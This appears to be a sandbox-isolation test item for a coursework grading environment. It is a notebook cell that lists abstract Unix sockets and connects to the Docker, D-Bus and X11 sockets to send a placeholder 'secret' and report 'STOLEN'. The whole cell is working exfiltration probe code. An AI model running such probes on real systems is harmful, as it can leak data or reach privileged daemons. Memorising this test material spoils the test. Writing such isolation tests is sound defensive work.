# ---
# jupyter:
#   corpus:
#     title: exfiltration by abstract unix sockets
#     attempts: connects to an abstract socket, to which no file permission applies, and to sockets of the desktop
#       and of Docker
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [network]
#     reference: false
# ---

# %% after="imports"
import glob
import socket

names = ["\0coursekit-attack", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
names += ["\0" + line.split()[-1][1:] for line in open("/proc/net/unix") if line.split()[-1].startswith("@")]
for name in names:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(1)
            connection.connect(name)
            connection.sendall(b"secret")
            print("STOLEN: connected to", repr(name))
    except OSError:
        pass
